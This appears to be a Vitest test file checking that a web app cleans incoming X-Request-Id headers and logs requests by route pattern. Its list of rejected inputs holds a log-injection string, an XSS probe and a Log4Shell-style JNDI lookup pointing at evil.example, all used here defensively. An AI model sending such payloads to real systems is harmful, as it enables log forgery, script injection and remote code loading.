import { expect, test } from 'vitest'
import { offlineApp } from '#testing/offline-app'

const UUID = /^[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}$/

test.each(['12345678', 'from-the-site_1', 'a'.repeat(64)])(
  'a harmless name of a request is kept: %s',
  async (name) => {
    const { get, logged } = offlineApp()

    const answer = await get('/health/live', { 'X-Request-Id': name })

    expect(answer.headers.get('X-Request-Id')).toBe(name)
    expect(logged[0]?.request_id).toBe(name)
  },
)

test.each([
  'short',
  'a'.repeat(65),
  'with space in it',
  '"},{"level":"ERROR',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example}',
  'bea@example.com',
])('a name that could do harm is replaced: %s', async (name) => {
  const { get, logged } = offlineApp()

  const answer = await get('/health/live', { 'X-Request-Id': name })

  expect(answer.headers.get('X-Request-Id')).toMatch(UUID)
  expect(logged[0]?.request_id).toBe(answer.headers.get('X-Request-Id'))
})

test('one line says what happened by pattern, never by address', async () => {
  const times = [1_000, 1_012].map((time) => new Date(time))
  const { get, logged } = offlineApp({ now: () => times.shift() ?? new Date(1_012) })

  await get('/doctors/canary?canary=1')

  expect(logged).toEqual([
    {
      level: 'info',
      message: 'request',
      request_id: expect.stringMatching(UUID),
      method: 'GET',
      route: '/doctors/{id}',
      status: 400,
      milliseconds: expect.any(Number),
    },
  ])
})

test.each<[string, string, string]>([
  ['GET', '/api/v1/canary', 'none'],
  ['PUT', '/api/v1/doctors', '/doctors'],
])('%s %s is written down as %s', async (method, path, route) => {
  const { app, logged } = offlineApp()

  await app.request(path, { method })

  expect(logged.map((line) => line.route)).toEqual([route])
})

test('a method that does not exist is not written down as it came', async () => {
  const { app, logged } = offlineApp()

  await app.request('/api/v1/doctors', { method: 'CANARY' })

  expect(logged.map(({ method }) => method)).toEqual(['other'])
})
